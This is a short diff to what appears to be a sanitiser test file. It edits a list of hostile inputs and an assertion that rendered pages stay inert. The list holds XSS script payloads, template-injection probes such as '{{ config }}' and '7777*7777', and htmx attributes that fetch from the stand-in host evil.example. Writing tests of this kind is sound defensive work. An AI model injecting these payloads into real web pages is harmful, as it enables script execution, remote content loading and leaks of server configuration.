@@ -36,8 +36,8 @@ HOSTILE = (
     "<!--<script>alert(1)</script>-->",
     "--><script>alert(1)</script>",
     "]]><script>alert(1)</script>",
-    "{{ 7*7 }}{% if 1 %}x{% endif %}",
-    "{{ config }}${7*7}#{7*7}",
+    "{{ 7777*7777 }}{% if 1 %}x{% endif %}",
+    "{{ config }}${7777*7777}#{7777*7777}",
     "<div hx-get=//evil.example hx-trigger=load>",
     "<div hx-on:load=alert(1)>",
     "<div sse-connect=//evil.example>",
@@ -58,4 +58,4 @@ def is_inert(page: Reader, where: str) -> None:
     assert not [
         tag for _, tag in page.tags if tag.get("href", "").lower().startswith(("javascript:", "data:", "//"))
     ]
-    assert "49" not in page.text.split(), where
+    assert "60481729" not in page.text, where
